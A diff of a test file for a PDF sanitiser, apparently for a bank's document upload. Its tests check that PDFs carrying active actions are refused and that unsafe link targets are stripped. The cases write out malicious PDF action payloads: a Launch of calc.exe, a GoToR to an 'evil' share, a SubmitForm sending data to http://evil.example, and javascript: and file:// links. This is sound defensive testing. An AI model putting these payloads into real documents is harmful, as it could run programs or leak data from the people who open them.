@@ -68,9 +68,6 @@ describe('a PDF that does something', () => {
     ['a program', linked('<</S/Launch/F(calc.exe)>>')],
     ['a document of a network share', linked('<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>')],
     ['an embedded document', linked('<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>')],
-    ['a link to a file', linked('<</S/URI/URI(file://evil/share)>>')],
-    ['a link to a script', linked('<</S/URI/URI(javascript:alert\\(1\\))>>')],
-    ['a link to wherever it lies', linked('<</S/URI/URI(../../a.exe)>>')],
     ['where its links lead from', { objects: { 1: catalog('/URI<</Base(file://evil/)>>') } }],
     ['data sent away', linked('<</S/SubmitForm/F(http://evil.example)>>')],
     ['data taken in', linked('<</S/ImportData/F(a.fdf)>>')],
@@ -89,6 +86,29 @@ describe('a PDF that does something', () => {
   ])('[CA-52] is refused: %s', async (_what, parts) => {
     expect(await problemOf(buildPdf(parts))).toBe('active');
   });
+});
+
+it.each([
+  'file://evil/share',
+  'javascript:alert\\(1\\)',
+  '../../a.exe',
+  'whatsapp://send?phone=5491145556677',
+  'sms:+5491145556677',
+  'geo:-34.6,-58.4',
+  'banco.example/contacto',
+  '#pagina2',
+])('[CA-52] a PDF is taken without its link to %s', async (target) => {
+  const pdf = buildPdf(linked(`<</S/URI/URI(${target})/Next${SCRIPT}>>`));
+  const copy = Buffer.from(await rewritePdf(pdf)).toString('latin1');
+  expect(copy).toContain('/Subtype /Link');
+  expect(copy).not.toMatch(/URI|JavaScript/);
+});
+
+it('[CA-52] a PDF keeps its links to the web, a mail and a call', async () => {
+  for (const target of ['https://banco.example', 'mailto:hola@banco.example', 'tel:08105550100']) {
+    const copy = await rewritePdf(buildPdf(linked(`<</S/URI/URI(${target})>>`)));
+    expect(Buffer.from(copy).toString('latin1')).toContain(target);
+  }
 });
 
 /** The same tokens as another producer would write them: names with escapes, spaces, comments, more entries. */
